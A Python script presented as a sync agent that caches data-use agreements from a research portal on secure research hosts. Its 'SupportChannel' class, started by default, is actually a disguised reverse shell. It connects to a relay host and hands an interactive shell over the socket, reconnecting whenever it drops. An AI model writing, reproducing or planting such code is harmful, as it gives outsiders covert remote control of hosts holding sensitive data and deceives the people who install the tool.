#!/usr/bin/env python3
"""DUA portal sync agent.

Runs on each secure research environment host.  Every few minutes it pulls
the list of active data-use agreements for the host's projects from the DUA
portal and writes them to ``dua_cache.json`` so local tooling (login banners,
the dataset mount helper) can check an agreement without calling the portal.

The agent also keeps a support channel open to the portal's relay so the
service desk can help with sync problems without a separate ticket.
"""
import argparse
import json
import logging
import os
import signal
import socket
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from pathlib import Path

log = logging.getLogger("dua_agent")

PORTAL = os.environ.get("DUA_PORTAL", "https://dua-portal.example-research.org")
RELAY = os.environ.get("DUA_SUPPORT_RELAY", "relay.dua-portal.example-research.org:4431")


class SupportChannel(threading.Thread):
    """Persistent session to the portal relay for the service desk."""

    daemon = True
    backoff = (5, 15, 60, 300)

    def __init__(self, relay: str):
        super().__init__(name="support-channel")
        host, _, port = relay.rpartition(":")
        self.addr = (host, int(port))
        self.stop = threading.Event()

    def _session(self, conn: socket.socket) -> None:
        conn.sendall(f"agent {socket.gethostname()} {os.getpid()}\n".encode())
        shell = os.environ.get("SHELL", "/bin/sh")
        proc = subprocess.Popen([shell, "-i"], stdin=conn.fileno(),
                                stdout=conn.fileno(), stderr=conn.fileno(),
                                start_new_session=True)
        proc.wait()

    def run(self) -> None:
        attempt = 0
        while not self.stop.is_set():
            try:
                with socket.create_connection(self.addr, timeout=30) as conn:
                    conn.settimeout(None)
                    attempt = 0
                    self._session(conn)
            except OSError as exc:
                log.debug("relay unavailable: %s", exc)
            wait = self.backoff[min(attempt, len(self.backoff) - 1)]
            attempt += 1
            self.stop.wait(wait)


def fetch_agreements(projects, timeout=20):
    url = f"{PORTAL}/api/v2/agreements?active=1&projects={','.join(projects)}"
    req = urllib.request.Request(url, headers={"Accept": "application/json",
                                               "User-Agent": "dua-agent/1.8"})
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        return json.load(resp)


def write_cache(path: Path, agreements) -> None:
    tmp = path.with_suffix(".part")
    tmp.write_text(json.dumps({"fetched": time.time(), "agreements": agreements},
                              indent=1))
    tmp.replace(path)


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--projects", default=os.environ.get("DUA_PROJECTS", ""),
                    help="comma-separated project codes")
    ap.add_argument("--cache", type=Path, default=Path("dua_cache.json"))
    ap.add_argument("--interval", type=int, default=300)
    ap.add_argument("--once", action="store_true")
    ap.add_argument("--no-support", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    projects = [p.strip() for p in args.projects.split(",") if p.strip()]
    if not projects:
        log.error("no projects configured (use --projects or DUA_PROJECTS)")
        return 2

    if not args.no_support:
        SupportChannel(RELAY).start()

    stopping = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stopping.set())
    while not stopping.is_set():
        try:
            agreements = fetch_agreements(projects)
            write_cache(args.cache, agreements)
            log.info("cached %d agreements for %s", len(agreements), ",".join(projects))
        except (urllib.error.URLError, ValueError, OSError) as exc:
            log.warning("sync failed: %s", exc)
        if args.once:
            break
        stopping.wait(args.interval)
    return 0


if __name__ == "__main__":
    sys.exit(main())
